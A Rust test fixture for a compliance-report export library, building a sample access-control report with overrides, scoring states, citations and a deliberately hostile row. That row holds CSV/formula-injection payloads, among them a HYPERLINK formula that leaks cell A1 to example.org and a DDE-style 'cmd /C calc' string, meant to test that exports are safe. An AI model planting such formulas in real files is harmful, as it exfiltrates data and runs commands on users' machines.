//! A report with everything in it: overrides, history, every state, hostile texts.

use assize_exports::{
    Accuracy, Citation, CriteriaSet, Document, LedgerLine, Method, Override, Report, Row, Run,
    Section, SectionValue, SetVerdict, SetVerdicts, State, Status, Tier,
};
use assize_methods::compliance::set_verdicts::CategoryVerdict;

/// The reason of the override of AC-2.
pub(crate) const REASON: &str = "Annex B names the account managers; the judge did not see it.";
/// A text that a spreadsheet would calculate.
pub(crate) const FORMULA: &str = "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"click\")";

/// Bounds, label and colour of the five default tiers.
const TIERS: [(u8, u8, &str, &str); 5] = [
    (0, 20, "Non-Compliant", "red"),
    (21, 40, "Mostly Non-Compliant", "orange"),
    (41, 60, "Partially Compliant", "yellow"),
    (61, 80, "Mostly Compliant", "lime"),
    (81, 100, "Fully Compliant", "green"),
];

/// The status of a tier, by its number from 1.
pub(crate) fn status(tier: u8) -> Status {
    let (_, _, label, colour) = TIERS[usize::from(tier) - 1];
    Status { label: label.into(), colour: colour.into(), tier }
}

/// A section of text.
pub(crate) fn section(name: &str, text: &str) -> Section {
    Section { name: name.into(), value: SectionValue::Text(text.into()) }
}

/// The report.
pub(crate) fn report() -> Report {
    let tiers = TIERS.iter().map(|(min, max, label, colour)| Tier {
        min: *min,
        max: *max,
        label: (*label).into(),
        colour: (*colour).into(),
        description: format!("What {} means, in a sentence.", label.to_lowercase()),
    });
    let document = |name: &str, media_type: &str| Document {
        name: name.into(),
        hash: "9f86d081884c7d659a2feaa0c55ad015".into(),
        media_type: media_type.into(),
        findings: Vec::new(),
    };
    Report {
        title: "Access control, third quarter".into(),
        organisation: "Harbour Office".into(),
        criteria_set: CriteriaSet {
            name: "Access control".into(),
            description: "Six criteria on accounts and sessions.".into(),
        },
        rubric: tiers.collect(),
        method: Method {
            judge: "rules".into(),
            method: "compliance 1".into(),
            template_version: "default 3".into(),
        },
        run: Run {
            id: "run-0042".into(),
            started_at: "2026-11-02T09:00:00Z".into(),
            finished_at: "2026-11-02T09:04:10Z".into(),
        },
        exported_at: "2026-11-03T08:30:00Z".into(),
        documents: vec![
            document("policy.pdf", "application/pdf"),
            document("annex.docx", "application/octet-stream"),
        ],
        rows: vec![
            overridden(),
            plainly_scored(),
            unscored(1),
            unscored(2),
            unscored(3),
            hostile(),
        ],
        accuracy: Some(Accuracy {
            compared: 3,
            uncompared: 1,
            overall: Some(0.91),
            interval: Some((0.83, 0.96)),
            tier_match: Some(2.0 / 3.0),
            bias: Some(-2.5),
            quadratic_kappa: None,
            calibration_error: Some(0.12),
        }),
        ..Report::default()
    }
}

/// The same with verdicts for both documents taken together, many of them.
pub(crate) fn report_of_set(criteria: usize) -> Report {
    let verdict = |number: usize| {
        let score = (number * 37 % 101) as f64;
        let is_scored = number % 7 != 3;
        SetVerdict {
            criteria_id: format!("AC-{number}"),
            requirement: format!("Requirement {number}: accounts are reviewed, and so is {REASON}"),
            category: format!("Family {}", number % 11),
            weight: 1.0,
            state: if is_scored { State::Scored } else { State::NeedsInformation },
            score: is_scored.then_some(score),
            status: is_scored.then(|| status(if score > 80.0 { 5 } else { 2 })),
            document: if is_scored { "policy.pdf".into() } else { String::new() },
            is_met: is_scored && score > 80.0,
            contradicted_by: Vec::new(),
        }
    };
    let category = |number: usize| CategoryVerdict {
        category: format!("Family {number}"),
        score: Some(number as f64 * 9.0),
        criteria: 3,
        scored: 2,
        met: 1,
    };
    Report {
        set: SetVerdicts {
            verdicts: (0..criteria).map(verdict).collect(),
            score: Some(55.25),
            categories: (0..11).map(category).collect(),
        },
        approval: "Approved by Grace on 2026-11-03 08:00 UTC.".into(),
        ..report()
    }
}

/// The same where the annex denies the AC-2 that the policy states.
pub(crate) fn report_of_contradicted_set() -> Report {
    let mut report = report_of_set(12);
    let verdict = &mut report.set.verdicts[5];
    verdict.criteria_id = "AC-2".into();
    (verdict.score, verdict.status, verdict.is_met) = (Some(60.0), Some(status(3)), false);
    verdict.contradicted_by = vec!["annex.docx".into()];
    report.rows[0].contradicted_by = vec!["annex.docx".into()];
    report
}

/// AC-2: 73 by the judge, 86.5 by a person who had said 64 before.
fn overridden() -> Row {
    let made = |score, when: &str, why: &str| Override {
        score: Some(score),
        sections: vec![section("explanation", "Managers are named in Annex B.")],
        who: "Ines Okafor".into(),
        when: when.into(),
        why: why.into(),
        ..Override::default()
    };
    Row {
        document: "policy.pdf".into(),
        criteria_id: "AC-2".into(),
        requirement: "Assign account managers, and review accounts every year.".into(),
        state: State::Scored,
        ai_score: Some(73.0),
        ai_confidence: Some(85),
        current_override: Some(made(86.5, "2026-11-02T14:00:00Z", REASON)),
        override_history: vec![made(64.0, "2026-11-02T11:00:00Z", "No reviewer is named.")],
        effective_score: Some(86.5),
        status: Some(status(5)),
        sections: vec![
            section("explanation", "Accounts are reviewed; managers are not named."),
            Section {
                name: "findings".into(),
                value: SectionValue::List(vec!["Reviews are yearly.".into(), "No names.".into()]),
            },
            Section { name: "controls counted".into(), value: SectionValue::Number(3.0) },
        ],
        citations: vec![
            Citation {
                quote: "Accounts shall be reviewed every twelve months.".into(),
                found: true,
                start: Some(1204),
                end: Some(1251),
                page: Some(3),
                matched: "exact".into(),
            },
            Citation { quote: "Managers are listed.".into(), ..Citation::default() },
        ],
        ledger: vec![
            LedgerLine { depth: 0, text: "score".into(), value: Some(73.0) },
            LedgerLine {
                depth: 1,
                text: "share of the requirement covered".into(),
                value: Some(0.73),
            },
        ],
        ..Row::default()
    }
}

fn plainly_scored() -> Row {
    Row {
        document: "policy.pdf".into(),
        criteria_id: "AC-2(1)".into(),
        requirement: "Support account management by automated means.".into(),
        state: State::Scored,
        ai_score: Some(20.5),
        ai_confidence: Some(60),
        effective_score: Some(20.5),
        status: Some(status(1)),
        sections: vec![section("explanation", "Nothing is said about automation.")],
        ..Row::default()
    }
}

/// AC-3 to AC-5: not applicable, needs information, failed.
fn unscored(which: usize) -> Row {
    let reason = "the judge gave no score in two replies".to_owned();
    let state = match which {
        1 => State::NotApplicable,
        2 => State::NeedsInformation,
        _ => State::Failed { reason },
    };
    Row {
        document: "policy.pdf".into(),
        criteria_id: format!("AC-{}", which + 2),
        requirement: "Something that got no number.".into(),
        state,
        ..Row::default()
    }
}

/// Everything that breaks files: formulas, control characters, scripts without a glyph, length.
fn hostile() -> Row {
    Row {
        document: "annex.docx".into(),
        criteria_id: "-1+1|cmd".into(),
        requirement:
            "Ελληνικά, кириллица, 漢字かな, עברית, \u{202e}reversed\u{202c}, 😀 and \0\u{1b}[31m."
                .into(),
        state: State::Scored,
        ai_score: Some(50.0),
        ai_confidence: Some(0),
        effective_score: Some(50.0),
        status: Some(status(3)),
        sections: vec![
            section("explanation", FORMULA),
            section("findings", &"A word that goes on and on. ".repeat(1_500)),
        ],
        citations: vec![Citation {
            quote: "@SUM(1+1)*cmd|' /C calc'!A0\r\n\"quoted\", and a <b>tag</b> & more".into(),
            found: true,
            matched: "fuzzy".into(),
            ..Citation::default()
        }],
        ledger: vec![LedgerLine { depth: 0, text: "+1 for courage".into(), value: Some(50.0) }],
        ..Row::default()
    }
}
